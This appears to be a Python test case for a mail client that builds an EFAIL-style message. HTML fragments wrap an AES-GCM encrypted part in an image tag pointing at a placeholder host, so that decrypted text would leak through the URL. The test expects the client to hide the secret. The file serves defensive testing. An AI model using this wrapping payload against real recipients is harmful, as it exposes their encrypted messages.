"""The same with AES-GCM: the ciphertext is intact, only its surroundings are hostile."""

from case import attack
from generators import cast, mail as m

expect = attack(signature="none", encryption="partial", findings=["receive.encrypted-part-closed"],
                hides=["Rosenkohl"], unchanged=True)


def mail():
    secret = m.encrypted_gcm(cast.rita, m.text("Das Kennwort ist Rosenkohl."))
    return m.header() + m.multipart("mixed", m.html('<img src="//e/?'), secret, m.html('">'))
